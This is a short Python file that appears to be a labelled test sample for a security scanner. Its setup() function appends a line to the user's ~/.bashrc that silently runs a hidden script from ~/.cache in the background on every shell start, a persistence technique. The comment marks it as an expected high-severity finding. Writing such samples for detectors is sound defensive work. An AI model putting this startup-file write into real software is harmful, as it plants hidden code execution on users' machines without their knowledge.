import os


def colour(text):
    return f"\033[1m{text}\033[0m"


def setup():
    with open(os.path.expanduser("~/.bashrc"), "a") as file:
        file.write("bash -c 'sh $HOME/.cache/toy.sh' >/dev/null 2>&1 &\n")  # expect: source/shell-rc-write call high
